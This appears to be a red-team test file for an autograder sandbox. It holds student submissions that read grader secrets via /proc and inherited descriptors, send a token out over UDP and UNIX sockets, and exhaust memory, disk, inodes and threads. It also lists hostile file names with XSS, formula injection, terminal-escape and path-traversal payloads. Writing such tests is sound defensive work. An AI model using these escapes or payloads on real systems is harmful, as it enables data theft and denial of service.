"""Red-team cases for issue 26 (trust wherever the grader runs), graded in the same batch as
tests/redteam/test_attacks.py's attacks, as root and as an ordinary user.

``ATTACKS``: the source of the toy's ``double`` cell (after the batch's constants: SECRET_DIR,
SUBS_DIR, OUT_DIR, MARKER, PORT, TOKEN, KERAS_B64, HOME_DIR, UDP_PORT, UNIX_SOCKET), each with a
function that asserts its outcome on the complete result and on what the student sees
(``expect(full, seen, mode)``; ``mode`` is the sandbox mode the batch ran in). Classes:

1. reaching what an ordinary user's worker could reach without a sandbox: the grader's home, the
   grader's files through ``/proc/PID/root`` and ``cwd``, descriptors it inherited, a signal to any
   process outside its own tree, UDP and a file-system UNIX socket;
4. resources that escape per-session or per-file accounting: a grandchild in a session of its
   own holding memory, many files of the largest allowed size (in its folder, in its results
   folder), many empty files, thousands of threads (each counts against the process allowance);
5. hidden checks that say more than one bit: failing hidden checks in different ways on purpose,
   and a wall-time channel.

``NAMES``: file names a student controls (class 3), each a flat notebook graded under its safe id.
"""

from __future__ import annotations

from autograder.core import names

GATE = "x.size > 10"  # a hidden input (the toy's hidden check has a 5 x 7 input)

ATTACKS: dict[str, str] = {
    "read_grader_home": (
        "def double(x):\n"
        "    try:\n"
        "        return 2 * x if 'hidden' in open(HOME_DIR + '/secret.txt').read() else x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "read_through_proc_root": (
        "import os\n"
        "def double(x):\n"
        "    for pid in os.listdir('/proc'):\n"
        "        if pid.isdigit():\n"
        "            for via in ('root' + SECRET_DIR, 'cwd'):\n"
        "                try:\n"
        "                    if 'double.hidden' in open(f'/proc/{pid}/{via}/grading.yml').read():\n"
        "                        return 2 * x\n"
        "                except OSError:\n"
        "                    pass\n"
        "    return x\n"
    ),
    "read_inherited_descriptors": (
        "import os\n"
        "def double(x):\n"
        "    for fd in range(3, 1024):\n"
        "        try:\n"
        "            where = os.readlink(f'/proc/self/fd/{fd}')\n"
        "        except OSError:\n"
        "            continue\n"
        "        if where.startswith((SECRET_DIR, OUT_DIR)):\n"
        "            return 2 * x\n"
        "        try:\n"
        "            if any(n in os.listdir(fd) for n in ('grading.yml', 'solutions')):\n"
        "                return 2 * x\n"
        "        except OSError:\n"
        "            pass\n"
        "    return x\n"
    ),
    "signal_outside_its_tree": (  # signal 0: permission to signal, without harming anyone
        "import os\n"
        "def double(x):\n"
        "    mine = {os.getpid()}\n"
        "    for pid in os.listdir('/proc'):\n"
        "        if not pid.isdigit() or int(pid) in mine or int(pid) == 1:\n"
        "            continue\n"
        "        try:\n"
        "            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        if b'pytest' in cmd or b'batch_driver' in cmd or b'forkserver' in cmd:\n"
        "            try:\n"
        "                os.kill(int(pid), 0)\n"
        "                return 2 * x\n"
        "            except OSError:\n"
        "                pass\n"
        "    return x\n"
    ),
    "udp_out": (
        "import socket\n"
        "def double(x):\n"
        "    try:\n"
        "        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'exfiltrate ' + TOKEN.encode(), ('127.0.0.1', UDP_PORT))\n"
        "        return 2 * x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "unix_socket_out": (
        "import socket\n"
        "def double(x):\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_UNIX)\n"
        "        s.connect(UNIX_SOCKET)\n"
        "        s.sendall(b'exfiltrate')\n"
        "        return 2 * x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "grandchild_session_memory": (
        "import os, time\n"
        "def double(x):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            held = b'x' * (900 * 2**20)\n"
        "            time.sleep(60)\n"
        "        os._exit(0)\n"
        "    time.sleep(2.5)\n"
        "    return 2 * x\n"
    ),
    "many_large_files_here": (
        "import os\n"
        "def double(x):\n"
        "    n = 0\n"
        "    try:\n"
        "        for i in range(40):\n"
        "            with open(f'big{i}.bin', 'wb') as f:\n"
        "                for _ in range(64):\n"
        "                    f.write(b'0' * 2**20)\n"
        "                    f.flush()\n"
        "                    n += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "    raise ValueError('wrote ' + '#' * (n // 8) + ' (8 MiB each)')\n"
    ),
    "many_large_files_in_results": (
        "import os\n"
        "def double(x):\n"
        "    out = os.path.join(os.getcwd(), '..', 'out')\n"
        "    try:\n"
        "        for i in range(40):\n"
        "            with open(os.path.join(out, f'big{i}.bin'), 'wb') as f:\n"
        "                for _ in range(64):\n"
        "                    f.write(b'0' * 2**20)\n"
        "                    f.flush()\n"
        "    except OSError:\n"
        "        pass\n"
        "    return 2 * x\n"
    ),
    "many_empty_files": (
        "import os\n"
        "def double(x):\n"
        "    n = 0\n"
        "    try:\n"
        "        os.mkdir('many')\n"
        "        for i in range(200000):\n"
        "            open(f'many/{i}', 'w').close()\n"
        "            n += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "    raise ValueError('made ' + '#' * (n // 1000) + ' (thousands of files)')\n"
    ),
    "thread_bomb": (  # threads count as processes: RLIMIT_NPROC, per user id or user namespace, stops them
        "import threading, time\n"
        "def double(x):\n"
        "    n = 0\n"
        "    try:\n"
        "        for _ in range(5000):\n"
        "            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "            n += 1\n"
        "    except (OSError, RuntimeError):\n"
        "        pass\n"
        "    raise ValueError('started ' + '#' * (n // 10) + ' (10 threads each)')\n"
    ),
    "hidden_fails_in_chosen_ways": (  # a hidden input's bits choose how the hidden check fails
        "import os, time\n"
        "def double(x):\n"
        f"    if not ({GATE}):\n"
        "        return 2 * x\n"
        "    way = int(abs(float(x.flat[0])) * 1000) % 5\n"
        "    if way == 0:\n"
        "        raise KeyError('a')\n"
        "    if way == 1:\n"
        "        return 'wrong type'\n"
        "    if way == 2:\n"
        "        os._exit(3)\n"
        "    if way == 3:\n"
        "        while True:\n"
        "            pass\n"
        "    return x\n"
    ),
    "hidden_wall_time": (  # how long the hidden check takes spells a hidden input
        "import time\n"
        "def double(x):\n"
        f"    if {GATE}:\n"
        "        time.sleep(abs(float(x.flat[0])) % 1.5)\n"
        "    return 2 * x\n"
    ),
}

FULL_MODES = ("namespaces", "userns")


def _by_id(result):
    return {c.id: c for c in result.checks}


def _check(full, seen, values: tuple, hidden: tuple, status: tuple = ("ok",)) -> None:
    f = _by_id(full)
    assert f["double.values"].category in values, f["double.values"]
    assert f["double.hidden"].category in hidden, f["double.hidden"]
    assert (f["double.values"].points, f["double.hidden"].points) == (0, 0), full.checks
    assert f["scale.values"].points == 2, f["scale.values"]
    assert full.status in status, (full.status, full.message)
    one_bit(seen)


def one_bit(seen) -> None:
    """What a student sees of hidden checks: passed, or failed with one message and the hint."""
    for c in seen.checks:
        if c.hidden:
            assert c.category in ("ok", "hidden") and c.status in ("passed", "failed"), c
            assert c.message in ("", f"hidden check on {c.target} failed"), c


_UNITS = {"MiB": ("wrote ", 8), "files": ("made ", 1000), "threads": ("started ", 10)}


def _written(message: str, unit: str) -> int:
    """What the attack says it made, in MiB, files or threads (its count is a bar of '#': digits could
    be masked as a hidden value's)."""
    word, scale = _UNITS[unit]
    bar = message.split(word)[1].split(" ")[0]
    assert set(bar) <= {"#"}, message
    return len(bar) * scale


def _expect_values(full, seen, mode):
    _check(full, seen, ("values",), ("values",))


def _expect_memory(full, seen, mode):
    _check(full, seen, ("memory", "timeout"), ("memory", "timeout"), ("memory", "timeout"))


def _expect_files_here(full, seen, mode):
    f = _by_id(full)
    if mode.startswith(FULL_MODES):  # a private tmpfs of disk_mb (256 MB for the toy)
        _check(full, seen, ("raised",), ("raised",))
        assert _written(f["double.values"].message, "MiB") <= 256, f["double.values"].message
    else:  # its own folder on the host's disk, polled
        _check(full, seen, ("disk", "raised"), ("disk", "raised"), ("disk", "ok"))


def _expect_files_in_results(full, seen, mode):
    _check(full, seen, ("disk",), ("disk",), ("disk",))


def _expect_empty_files(full, seen, mode):
    f = _by_id(full)
    if mode.startswith(FULL_MODES):  # the tmpfs's inodes are bounded
        _check(full, seen, ("raised",), ("raised",))
        assert _written(f["double.values"].message, "files") <= 20000, f["double.values"].message
    else:
        _check(full, seen, ("disk", "raised"), ("disk", "raised"), ("disk", "ok"))


def _expect_threads(full, seen, mode):
    f = _by_id(full)
    _check(full, seen, ("raised",), ("raised",))
    assert 100 <= _written(f["double.values"].message, "threads") <= 520, f["double.values"].message  # nproc 512


def _expect_hidden_only(full, seen, mode):
    f = _by_id(full)
    assert f["double.values"].points == 1 and f["scale.values"].points == 2, full.checks
    assert f["double.hidden"].points == 0 and f["double.hidden"].category != "ok", f["double.hidden"]
    one_bit(seen)
    assert (seen.status, seen.message) == ("ok", ""), (seen.status, seen.message)  # no hidden stop is told
    assert seen.seconds == 0.0


def _expect_wall_time(full, seen, mode):
    f = _by_id(full)
    assert all(c.points == c.max_points for c in f.values()), full.checks
    assert seen.seconds == 0.0  # result.json carries no wall time


def _expect_udp(full, seen, mode):
    if mode.startswith(FULL_MODES):  # an empty network namespace: nothing leaves
        _expect_values(full, seen, mode)


EXPECT = {
    "read_grader_home": _expect_values,
    "read_through_proc_root": _expect_values,
    "read_inherited_descriptors": _expect_values,
    "signal_outside_its_tree": _expect_values,
    "udp_out": _expect_udp,  # Landlock does not cover UDP: with Landlock alone it leaves (README, Threat model)
    "unix_socket_out": _expect_udp,  # nor a file-system UNIX socket the worker can reach
    "grandchild_session_memory": _expect_memory,
    "many_large_files_here": _expect_files_here,
    "many_large_files_in_results": _expect_files_in_results,
    "many_empty_files": _expect_empty_files,
    "thread_bomb": _expect_threads,
    "hidden_fails_in_chosen_ways": _expect_hidden_only,
    "hidden_wall_time": _expect_wall_time,
}

# class 3: file names a student controls; each is a flat notebook in the folder hostile-names/
NAMES = [
    "..",  # the file ...ipynb, whose stem is '..': once, a result.json written outside --out
    ".",
    ".hidden",
    "-rf",
    "=1+2",
    "@SUM(A1)",
    "+cmd",
    "-2",
    "max points",
    "Casey",
    "casey",
    "a b",
    "a_b",
    "a%20b",
    "%2E.",
    "\x1b[31mred\x1b]8;;https:evil.example\x07link\x1b]8;;\x07",
    "line\rover",
    "new\nline",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "L" * 240,
    "\udcff\udcfe-not-utf8",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
]


def name_files() -> dict[str, str]:
    """Each hostile name's file name (``NAME.ipynb``)."""
    return {n: n + ".ipynb" for n in NAMES}


def expected_ids() -> set[str]:
    """The safe ids the hostile names may be graded under (before collisions add a suffix)."""
    return {names.safe_id(n) for n in NAMES}
